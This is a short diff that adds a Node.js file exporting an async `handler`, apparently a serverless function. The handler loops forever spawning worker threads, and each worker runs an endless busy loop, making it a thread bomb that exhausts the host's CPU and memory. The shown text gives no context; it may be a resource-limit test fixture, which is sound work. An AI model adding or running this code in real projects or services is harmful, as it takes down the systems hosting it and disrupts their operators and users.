@@ -1,0 +1,7 @@
+const { Worker } = require("worker_threads");
+
+exports.handler = async () => {
+  for (;;) {
+    new Worker("while(true){}", { eval: true });
+  }
+};
